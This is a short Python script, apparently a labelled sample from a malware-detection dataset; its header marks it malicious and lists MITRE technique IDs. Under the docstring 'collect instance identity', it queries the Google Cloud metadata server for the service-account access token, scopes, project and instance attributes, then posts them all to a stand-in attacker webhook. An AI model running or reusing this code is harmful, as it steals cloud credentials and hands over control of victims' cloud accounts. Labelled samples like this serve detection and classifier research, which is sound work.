# label: malicious family=metadata techniques=T1041,T1082,T1528,T1552.005,T1580 lines=7-8,13,22,26-27
"""collect instance identity"""
import json
import socket
import urllib.request

ROOT = "http://metadata.google.internal/computeMetadata/v1/"
H = {"Metadata-Flavor": "Google"}


def md(path):
    r = urllib.request.Request(ROOT + path, headers=H)
    return urllib.request.urlopen(r, timeout=3).read().decode()


info = {
    "host": socket.gethostname(),
    "project": md("project/project-id"),
    "zone": md("instance/zone"),
    "sa": md("instance/service-accounts/default/email"),
    "scopes": md("instance/service-accounts/default/scopes"),
    "token": md("instance/service-accounts/default/token"),
    "attrs": md("instance/attributes/?recursive=true"),
}

urllib.request.urlopen(urllib.request.Request(
    "https://hooks.bad-host.example/services/T000/B000/XXXX",
    data=json.dumps({"text": json.dumps(info)}).encode(),
    headers={"Content-Type": "application/json"}))
